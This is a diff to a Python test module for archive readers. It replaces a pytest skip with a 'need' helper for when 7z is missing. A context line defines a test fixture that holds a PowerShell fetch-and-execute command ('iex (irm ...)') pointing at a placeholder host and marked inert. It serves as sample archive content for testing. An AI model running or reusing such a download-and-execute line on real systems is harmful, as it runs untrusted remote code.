@@ -23,6 +23,7 @@ from commodore.readers.archives import Budget, entries, format_of, model
 from commodore.readers.archives.opening import BrokenArchiveError
 from commodore.record import Problem, Record
 from tests.commodore.damage import HOST, damaged
+from tests.conftest import need
 
 SCRIPT, NOTE = b"iex (irm http://a.example.invalid/x) # inert\n", b"hello " * 1000
 CABINET = base64.b64decode(
@@ -59,8 +60,7 @@ FILES = {"in/run.ps1": SCRIPT, "in/sub/note.txt": NOTE}
 def seven(*options: str) -> bytes:
     """An archive of FILES, made by the command 7z."""
     program = shutil.which("7z")
-    if program is None:
-        pytest.skip("7z is not installed (apt install p7zip-full)")
+    need(program, "7z")
     import tempfile
     from pathlib import Path
 
